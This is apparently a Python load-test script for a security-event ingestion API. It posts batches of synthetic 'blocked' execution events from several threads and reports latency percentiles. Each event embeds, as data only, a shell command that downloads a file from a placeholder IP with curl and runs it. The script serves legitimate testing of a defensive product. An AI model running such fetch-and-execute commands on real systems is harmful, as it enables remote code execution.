"""Posts batches at a fixed rate (events/s) from N threads and prints batch latency p50/p99 (ms).
The events are shaped as post.lua's (the same functions, reasons and text), so that the store the
queries meet afterwards is one mix whatever phase wrote it."""
import http.client, json, os, sys, threading, time
FUNCTIONS = ["api", "worker", "cron", "checkout", "images", "search", "billing", "auth"]
REASONS = ["drift", "blocklist", "honeypot", "not_allowlisted", "interpreter_script"]

host, port, token = sys.argv[1], int(sys.argv[2]), sys.argv[3]
rate, seconds, threads, batch = float(sys.argv[4]), float(sys.argv[5]), int(sys.argv[6]), 100
interval = batch * threads / rate
latencies, errors, lock = [], [0], threading.Lock()

def client(n):
    conn = http.client.HTTPConnection(host, port)
    seq, deadline, next_at = 0, time.time() + seconds, time.time() + n * interval / threads
    while time.time() < deadline:
        now = time.time()
        if now < next_at:
            time.sleep(next_at - now)
        next_at += interval
        events = []
        for _ in range(batch):
            seq += 1
            reason = REASONS[seq % len(REASONS)]
            events.append({"time": time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime()), "mode": "enforce", "action": "blocked",
                           "reason": reason, "reasons": [reason], "executable": "/tmp/x%d" % (seq % 97),
                           "argv": ["/bin/sh", "-c", "curl -o /tmp/m http://203.0.113.9/m%d && /tmp/m" % seq],
                           "function_name": FUNCTIONS[seq % len(FUNCTIONS)], "region": "eu-west-1", "account_id": "123456789012",
                           "request_id": "r-paced-%d-%d-%d" % (os.getpid(), n, seq),
                           "instance_id": "paced-%d-%d" % (os.getpid(), n), "seq": seq})
        body = json.dumps(events)
        start = time.perf_counter()
        conn.request("POST", "/api/v1/events", body, {"Authorization": "Bearer " + token, "Content-Type": "application/json"})
        r = conn.getresponse(); r.read()
        took = (time.perf_counter() - start) * 1000
        with lock:
            if r.status == 202: latencies.append(took)
            else: errors[0] += 1

ts = [threading.Thread(target=client, args=(i,)) for i in range(threads)]
[t.start() for t in ts]; [t.join() for t in ts]
latencies.sort()
pct = lambda p: latencies[min(len(latencies) - 1, int(len(latencies) * p))] if latencies else float("nan")
print(json.dumps({"batches": len(latencies), "errors": errors[0], "events_per_s": round(len(latencies) * batch / seconds),
                  "p50_ms": round(pct(0.50), 2), "p99_ms": round(pct(0.99), 2)}))
